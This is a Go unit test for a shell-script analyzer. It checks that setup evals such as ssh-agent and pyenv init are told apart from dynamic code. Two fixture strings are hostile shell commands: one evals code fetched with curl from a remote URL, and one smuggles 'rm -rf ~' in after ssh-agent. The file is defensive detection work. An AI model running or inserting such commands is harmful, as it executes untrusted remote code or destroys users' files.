package shell

import "testing"

func TestSetupEval(t *testing.T) {
	t.Parallel()
	for src, want := range map[string]struct {
		kind    FindingKind
		command string // a command the analysis must see
	}{
		`eval "$(ssh-agent -s)"`:           {SetupEval, "ssh-agent -s"},
		`eval $(pyenv init -)`:             {SetupEval, "pyenv init -"},
		`eval "$(curl -s https://x)"`:      {DynamicCode, "curl -s https://x"},
		`eval "$(ssh-agent -s; rm -rf ~)"`: {DynamicCode, "rm -rf ~"},
		`eval "$(pyenv init - $X)"`:        {DynamicCode, ""},
	} {
		a, err := Analyze(src)
		if err != nil {
			t.Fatalf("%s: %v", src, err)
		}
		kinds := map[FindingKind]bool{}
		for _, f := range a.Findings {
			kinds[f.Kind] = true
		}
		if !kinds[want.kind] {
			t.Errorf("%s: findings %+v, want a %s", src, a.Findings, want.kind)
		}
		if want.kind == SetupEval && (kinds[DynamicCode] || kinds[DynamicName]) {
			t.Errorf("%s: a setup eval is also reported as dynamic: %+v", src, a.Findings)
		}
		found := want.command == ""
		for _, c := range a.Commands {
			found = found || c.Text == want.command
			if want.kind == SetupEval && c.Dynamic {
				t.Errorf("%s: command %q is dynamic", src, c.Text)
			}
		}
		if !found {
			t.Errorf("%s: no command %q in %+v", src, want.command, a.Commands)
		}
	}
}
